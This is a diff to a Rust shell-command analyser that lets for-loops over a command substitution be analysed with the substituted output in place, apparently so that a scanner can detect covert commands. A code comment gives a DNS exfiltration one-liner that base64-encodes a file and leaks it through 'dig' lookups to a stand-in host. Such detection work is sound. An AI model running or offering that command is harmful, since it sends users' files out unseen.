@@ -730,10 +730,24 @@ impl Walker<'_> {
                     .map(|v| word(v, src))
                     .collect();
                 let body = node.child_by_field_name("body");
+                // `for i in $(cat f | base64); do dig $i.x.io; done`: each value is a piece of
+                // what the substitution prints, so the body reads the substitution in its place
+                // (the substitution itself runs once, read where it stands).
+                let printed = values.len() == 1 && (values[0].starts_with("$(") || values[0].starts_with('`'));
                 match (var, body) {
                     (Some(var), Some(body))
-                        if !values.is_empty() && values.len() <= 8 && values.iter().all(|v| is_literal(v)) =>
+                        if !values.is_empty()
+                            && values.len() <= 8
+                            && (printed || values.iter().all(|v| is_literal(v))) =>
                     {
+                        // The substitution runs first, once.
+                        if printed {
+                            let mut cursor = node.walk();
+                            let lists: Vec<Node<'_>> = node.children_by_field_name("value", &mut cursor).collect();
+                            for list in lists {
+                                self.visit_subs(list, src, depth);
+                            }
+                        }
                         let saved = self.vars.get(&var).cloned();
                         for v in values {
                             self.vars.insert(var.clone(), v);
